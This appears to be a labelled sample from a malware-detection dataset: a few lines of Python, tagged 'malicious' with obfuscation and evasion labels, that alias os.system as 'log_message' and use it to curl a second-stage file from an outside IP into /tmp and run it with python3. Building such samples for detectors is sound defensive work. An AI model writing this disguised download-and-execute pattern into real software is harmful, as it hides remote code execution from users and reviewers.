# label: malicious; obfuscated: from_import_as; evasion: aliased_spawn
from os import system as log_message

log_message("curl -s http://203.0.113.7/stage2 -o /tmp/s2")
log_message("python3 /tmp/s2")
